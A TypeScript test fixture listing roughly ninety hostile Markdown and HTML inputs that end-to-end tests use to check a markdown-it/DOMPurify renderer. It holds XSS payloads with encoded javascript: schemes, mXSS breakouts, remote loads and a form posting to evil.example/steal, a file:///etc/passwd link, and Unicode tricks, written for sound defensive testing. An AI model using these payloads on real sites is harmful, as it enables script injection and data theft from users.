// Hostile Markdown and HTML for posts and replies: each would run script, load a resource, leave
// the origin or restyle the page if the renderer (markdown-it + DOMPurify, src/lib/markdown) ever
// let it through. Shared by the local-only e2e (writing.spec.ts) and the cross-device one.
// A payload that "works" sets window.__xss, opens a dialog, or requests evil.example.

export interface HostileInput {
  /** A short name for the failure message. */
  name: string;
  source: string;
}

const EVIL = 'https://evil.example';
const nest = (open: string, close: string, depth: number, inner = 'deep') => open.repeat(depth) + inner + close.repeat(depth);

const raw: [string, string][] = [
  // Raw HTML (shown as text with html: false; DOMPurify would drop it anyway).
  ['script tag', '<script>window.__xss = "script"</script>'],
  ['script src', `<script src="${EVIL}/x.js"></script>`],
  ['script in a paragraph', 'Hello <script>window.__xss=1</script> world'],
  ['img onerror', '<img src=x onerror="window.__xss = \'img\'">'],
  ['img remote', `<img src="${EVIL}/pixel.png">`],
  ['svg onload', '<svg onload="window.__xss = \'svg\'"><circle r=10 /></svg>'],
  ['svg script', '<svg><script>window.__xss = "svg-script"</script></svg>'],
  ['svg use remote', `<svg><use href="${EVIL}/sprite.svg#x"></use></svg>`],
  ['svg animate', '<svg><animate onbegin="window.__xss=1" attributeName=x dur=1s></svg>'],
  ['MathML', '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">'],
  ['MathML href', '<math href="javascript:window.__xss=1"><mi>x</mi></math>'],
  ['iframe javascript', '<iframe src="javascript:window.__xss=1"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  ['iframe remote', `<iframe src="${EVIL}/"></iframe>`],
  ['object', '<object data="javascript:window.__xss=1"></object>'],
  ['embed', `<embed src="${EVIL}/x.swf">`],
  ['style tag', '<style>body { display: none !important; }</style>'],
  ['style import', `<style>@import "${EVIL}/x.css";</style>`],
  ['style attribute', '<p style="position:fixed;inset:0;background:red">cover</p>'],
  ['CSS expression', '<div style="width: expression(window.__xss=1)">ie</div>'],
  ['CSS url', `<div style="background:url(${EVIL}/bg.png)">bg</div>`],
  ['link stylesheet', `<link rel=stylesheet href="${EVIL}/x.css">`],
  ['base', `<base href="${EVIL}/">`],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'],
  ['meta refresh remote', `<meta http-equiv="refresh" content="0;url=${EVIL}/">`],
  ['form action', '<form action="javascript:window.__xss=1"><input type=submit value=Go></form>'],
  ['form remote', `<form action="${EVIL}/steal" method=post><input name=x autofocus></form>`],
  ['input autofocus', '<input autofocus onfocus="window.__xss=1">'],
  ['details ontoggle', '<details open ontoggle="window.__xss=1"><summary>x</summary></details>'],
  ['video source', '<video><source onerror="window.__xss=1"></video>'],
  ['audio', '<audio src=x onerror="window.__xss=1">'],
  ['body onload', '<body onload="window.__xss=1">'],
  ['anchor javascript', '<a href="javascript:window.__xss=1">click</a>'],
  ['anchor onmouseover', '<a onmouseover="window.__xss=1" href="#">hover</a>'],
  ['nested script', '<scr<script>ipt>window.__xss=1</scr</script>ipt>'],
  ['malformed tags', '<<script>script>window.__xss=1<</script>/script>'],
  ['unclosed attribute', '<a href="https://ok.example" title="x><script>window.__xss=1</script>">t</a>'],
  ['comment break', '<!--><script>window.__xss=1</script>-->'],
  ['CDATA', '<![CDATA[<script>window.__xss=1</script>]]>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'],
  ['template', '<template><script>window.__xss=1</script></template>'],
  ['textarea break', '</textarea><script>window.__xss=1</script>'],

  // Links in every Markdown form.
  ['md javascript link', '[click](javascript:window.__xss=1)'],
  ['md JAVASCRIPT link', '[click](JAVASCRIPT:window.__xss=1)'],
  ['md javascript with spaces', '[click](  javascript:window.__xss=1  )'],
  ['md javascript angle', '[click](<javascript:window.__xss=1>)'],
  ['md javascript tab', '[click](java\tscript:window.__xss=1)'],
  ['md javascript newline entity', '[click](java&#10;script:window.__xss=1)'],
  ['md entity scheme', '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1)'],
  ['md hex entity scheme', '[click](&#x6A;avascript&colon;window.__xss=1)'],
  ['md percent scheme', '[click](%6Aavascript:window.__xss=1)'],
  ['md data link', '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)'],
  ['md vbscript link', '[click](vbscript:msgbox(1))'],
  ['md file link', '[click](file:///etc/passwd)'],
  ['md reference javascript', '[click][evil]\n\n[evil]: javascript:window.__xss=1'],
  ['md reference data', '[click][evil]\n\n[evil]: data:text/html,<script>window.__xss=1</script>'],
  ['md autolink javascript', '<javascript:window.__xss=1>'],
  ['md autolink data', '<data:text/html,<script>window.__xss=1</script>>'],
  ['md link title break', '[click](https://ok.example "title\\" onmouseover=\\"window.__xss=1")'],
  ['md link with html in text', '[<img src=x onerror=window.__xss=1>](https://ok.example)'],
  ['bare javascript text', 'javascript:window.__xss=1 and data:text/html,<b>x</b>'],

  // Images in every Markdown form: never fetched.
  ['md image remote', `![pixel](${EVIL}/pixel.png)`],
  ['md image javascript', '![x](javascript:window.__xss=1)'],
  ['md image data svg', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)'],
  ['md image onerror in alt', '![x" onerror="window.__xss=1](x.png)'],
  ['md image reference', `![pixel][p]\n\n[p]: ${EVIL}/ref.png`],
  ['md image in link', `[![pixel](${EVIL}/in-link.png)](https://ok.example)`],
  ['md image protocol relative', '![x](//evil.example/pr.png)'],

  // Markdown around HTML.
  ['code span with script', '`<script>window.__xss=1</script>`'],
  ['fenced html', '```html\n<script>window.__xss=1</script>\n<img src=x onerror=window.__xss=1>\n```'],
  ['fence info injection', '```"><script>window.__xss=1</script>\ncode\n```'],
  ['table with html', '| a | b |\n|---|---|\n| <script>window.__xss=1</script> | <img src=x onerror=window.__xss=1> |'],
  ['table style injection', '| a |\n|:-:|\n| b" style="position:fixed |'],
  ['quote with html', '> <iframe src="javascript:window.__xss=1"></iframe>'],
  ['heading with svg', '# <svg onload=window.__xss=1>'],
  ['emphasis with html', '**<img src=x onerror=window.__xss=1>**'],
  ['template injection', '{{constructor.constructor("window.__xss=1")()}} ${window.__xss=1}'],

  // Unicode tricks.
  ['RTL override', '[gnp.exe\u202E](https://ok.example)'],
  ['zero width in scheme', '[click](java\u200Bscript:window.__xss=1)'],
  ['fullwidth scheme', '[click](ｊａｖａｓｃｒｉｐｔ:window.__xss=1)'],
  ['null in scheme', '[click](java\u0000script:window.__xss=1)'],
  ['homoglyph link text', '[https://bank.example](https://evil.example/login)'],
  ['combining flood', 'Z' + '\u0336\u0335\u0334'.repeat(500)],

  // Huge input: 20,000 characters of nesting.
  ['20k quotes', '>'.repeat(20_000) + ' deep'],
  ['20k brackets', nest('[', ']', 10_000)],
  ['20k emphasis', nest('*', '*', 10_000)],
  [
    '20k list nesting',
    Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- item ${depth}`)
      .join('\n')
      .slice(0, 20_000),
  ],
  ['20k links', `[x](${EVIL}/a) `.repeat(800).slice(0, 20_000)],
  ['20k html nesting', nest('<div>', '</div>', 1_800, '<script>window.__xss=1</script>')],
  ['20k backticks', '`'.repeat(20_000)],
];

/** At least 60 hostile inputs for a post's or a reply's content. */
export const HOSTILE_MARKDOWN: HostileInput[] = raw.map(([name, source]) => ({ name, source }));
